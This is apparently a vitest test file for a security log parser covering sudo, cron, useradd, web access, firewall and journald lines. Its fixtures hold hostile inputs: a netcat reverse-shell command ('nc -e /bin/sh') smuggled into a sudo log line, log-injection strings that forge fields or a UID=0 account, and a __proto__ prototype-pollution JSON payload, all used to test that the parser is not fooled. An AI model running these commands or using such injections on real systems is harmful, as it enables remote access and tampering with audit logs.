import { describe, expect, it } from 'vitest';
import {
  ARRIVAL,
  ATTACKER,
  VICTIM,
  expectFields,
  failure,
  parse,
  type Wish,
} from '../test/hostile-line.ts';

describe('parseLine() of other logs', () => {
  it.each<[string, string, Wish]>([
    [
      'B01',
      'Nov 21 03:40:00 web01 sudo:    alice : TTY=pts/0 ; PWD=/tmp/x ; USER=root ; COMMAND=/bin/true ; USER=root ; COMMAND=/usr/bin/nc -e /bin/sh 203.0.113.9 4',
      {
        command: '/bin/true ; USER=root ; COMMAND=/usr/bin/nc -e /bin/sh 203.0.113.9 4',
        flags: ['ambiguous'],
        username: 'alice',
      },
    ],
    [
      'B04',
      'Nov 21 03:40:00 web01 sudo:    alice : command not allowed ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/wget x',
      {
        status: 'failure',
        reason: 'command_not_allowed',
        command: '/usr/bin/wget x',
        executable: '/usr/bin/wget',
      },
    ],
    [
      'B05',
      'Nov 21 03:40:00 web01 sudo:    alice : (command continued) -e /bin/sh',
      { action: 'command_execution', command: '-e /bin/sh' },
    ],
    [
      'B06',
      'Nov 21 03:40:00 web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/ls',
      {
        source_ip: undefined,
        status: 'executed',
        target_user: 'root',
        working_directory: '/home/alice',
        tty: 'pts/0',
      },
    ],
    [
      'B07',
      `Nov 21 03:40:00 web01 CRON[4]: (root) CMD (echo Failed password for root from ${VICTIM} port 22 ssh2)`,
      { action: 'cron_command', source_ip: undefined },
    ],
    [
      'B08',
      'Nov 21 03:40:00 web01 useradd[4]: new user: name=x, UID=0, UID=1001, GID=1001, home=/home/x, shell=/bin/sh, from=none',
      { action: 'account_created', target_user: 'x, UID=0', extra: { uid: 1001, gid: 1001 } },
    ],
    [
      'B09',
      `${ATTACKER} - root [${VICTIM}] \\x22x [21/Nov/2026:03:40:27 +0000] "GET / HTTP/1.1" 404 153 "-" "curl/7.88.1"`,
      {
        source_ip: ATTACKER,
        username: `root [${VICTIM}] \\x22x`,
        http_status: 404,
        '@timestamp': '2026-11-21T03:40:27.000Z',
      },
    ],
    [
      'B10',
      `${ATTACKER} - - [21/Nov/2026:03:40:24 +0000] "GET /x\\x22 200 5 \\x22-\\x22 \\x22-\\x22" 400 157 "-" "-"`,
      { http_status: 400, bytes: 157 },
    ],
    [
      'B11',
      `${ATTACKER} - - [21/Nov/2026:03:40:27 +0000] "" 400 0 "-" "-"`,
      { http_method: undefined, url_path: undefined, http_status: 400, source_ip: ATTACKER },
    ],
    [
      'B11 tls',
      `${ATTACKER} - - [21/Nov/2026:03:40:27 +0000] "\\x16\\x03\\x01\\x02" 400 157 "-" "-"`,
      { http_method: undefined, url_path: undefined },
    ],
    [
      'B12',
      `${ATTACKER} - - [21/Nov/2026:03:40:27 +0000] "GET http://evil.example/ HTTP/1.1" 404 153 "-" "-"`,
      { url_path: '/', http_host: 'evil.example' },
    ],
    [
      'B13',
      `${ATTACKER} - - [21/Nov/2026:03:40:27 +0000] "GET /\\" 200 1 \\"-\\" HTTP/1.1" 404 196 "-" "-"`,
      { http_status: 404, bytes: 196 },
    ],
    [
      'B14',
      `${ATTACKER} - - [21/Nov/2026:03:40:27 +0000] "GET /a%0d%0a${VICTIM}%20-%20- HTTP/1.1" 404 196 "-" "-"`,
      { source_ip: ATTACKER, url_path: `/a%0d%0a${VICTIM}%20-%20-` },
    ],
    [
      'B22',
      `Nov 21 03:40:00 web01 kernel: [1.2] [UFW BLOCK] IN=eth0 OUT= SRC=${ATTACKER} DST=10.0.0.5 LEN=56 PROTO=ICMP TYPE=3 CODE=1 [SRC=10.0.0.5 DST=${VICTIM} LEN=28 PROTO=UDP SPT=53 DPT=4 LEN=8 ]`,
      {
        source_ip: ATTACKER,
        destination_ip: '10.0.0.5',
        protocol: 'icmp',
        destination_port: undefined,
        action: 'firewall_drop',
      },
    ],
    [
      'B23',
      `Nov 21 03:40:00 web01 kernel: [1.2] [UFW AUDIT] IN=eth0 OUT= SRC=${ATTACKER} DST=10.0.0.5 LEN=56 PROTO=TCP SPT=1 DPT=2`,
      { action: 'firewall', status: 'info' },
    ],
    [
      'B23 allow',
      `Nov 21 03:40:00 web01 kernel: [1.2] [UFW ALLOW] IN=eth0 OUT= SRC=${ATTACKER} DST=10.0.0.5 LEN=56 PROTO=TCP SPT=1 DPT=2`,
      { action: 'firewall_allow', status: 'allowed' },
    ],
    [
      'B23 limit',
      `Nov 21 03:40:00 web01 kernel: [1.2] [UFW LIMIT BLOCK] IN=eth0 OUT= SRC=${ATTACKER} DST=10.0.0.5 LEN=56 PROTO=TCP SPT=1 DPT=2 SYN`,
      { action: 'firewall_drop', tcp_flags: 'SYN' },
    ],
    [
      'B23 letter of a router',
      `Nov 21 03:40:00 web01 [WAN_LOCAL-D-2147483647] DESCR="[WAN_LOCAL]Block All" IN=eth8 OUT= SRC=${ATTACKER} DST=10.0.0.5 LEN=56 PROTO=TCP SPT=1 DPT=2 SYN`,
      { action: 'firewall_drop', source_ip: ATTACKER },
    ],
    [
      'B23 letter that allows',
      `Nov 21 03:40:00 web01 kernel: [WAN_IN-3-A]DESCR="Block nothing" IN=eth8 OUT= SRC=${ATTACKER} DST=10.0.0.5 LEN=56 PROTO=TCP SPT=1 DPT=2 SYN`,
      { action: 'firewall_allow', status: 'allowed' },
    ],
    [
      'B24',
      `Nov 21 03:40:00 web01 kernel: IN=eth0 OUT= SRC=2001:db8::7 DST=2001:db8::1 LEN=60 PROTO=41 LEN=20`,
      { bytes: 60, source_port: undefined, protocol: '41', action: 'firewall' },
    ],
    [
      'B25',
      JSON.stringify({
        MESSAGE: [...Buffer.from(`Failed password for root from ${ATTACKER} port 4 ssh2`)],
        SYSLOG_IDENTIFIER: 'sshd',
        _UID: '0',
        _COMM: 'sshd',
      }),
      failure('root'),
    ],
    [
      'B28',
      JSON.stringify({
        action: 'ssh_login',
        status: 'failure',
        source_ip: [ATTACKER, VICTIM],
        '@timestamp': '2026-11-21T03:40:00Z',
      }),
      { source_ip: undefined, extra: { source_ip: [ATTACKER, VICTIM] } },
    ],
    [
      'B28 number',
      JSON.stringify({ action: 'ssh_login', source_ip: 3325256711 }),
      { source_ip: undefined },
    ],
    [
      'B29',
      JSON.stringify({ action: 'ssh_login', event_id: 'mine' }),
      { extra: { event_id: 'mine' } },
    ],
    [
      'B30',
      JSON.stringify({
        action: 'ssh_login',
        '@timestamp': '2099-01-01T00:00:00Z',
        scenario: 'normal',
      }),
      { '@timestamp': new Date(ARRIVAL).toISOString(), flags: ['clock_skew'], scenario: 'normal' },
    ],
    [
      'E06',
      JSON.stringify({ action: 'x', pid: 99_999_999_999, port: 'abc', http_status: 1.5 }),
      { pid: undefined, port: undefined, http_status: undefined },
    ],
  ])('%s', (_id, line, wish) => {
    const event = parse(line);
    expect(event).toBeDefined();
    expectFields(event, wish);
  });

  it.each([
    '<html><body>not a log</body></html>',
    '#!/bin/sh',
    '\u00ff\u00d8\u00ff\u00e0JFIF',
    '',
    ' ',
    '{',
    '[]',
    '{"a":1}',
    '{"MESSAGE":null}',
    '{"MESSAGE":["a","b"]}',
    '['.repeat(200_000),
  ])('B32, B25: nothing is made of %.30j', (line) => {
    expect(parse(line)).toBeUndefined();
  });

  it('F01, F02: JSON with hostile keys or depth stays plain data', () => {
    const event = parse(
      '{"action":"x","__proto__":{"admin":true},"constructor":{"prototype":{"a":1}},"deep":{"a":{"b":{"c":{"d":{"e":{"f":1}}}}}}}',
    );
    expect(({} as { admin?: boolean }).admin).toBeUndefined();
    expect(Object.keys(event?.extra ?? {})).toEqual(['constructor', 'deep']);
  });
});
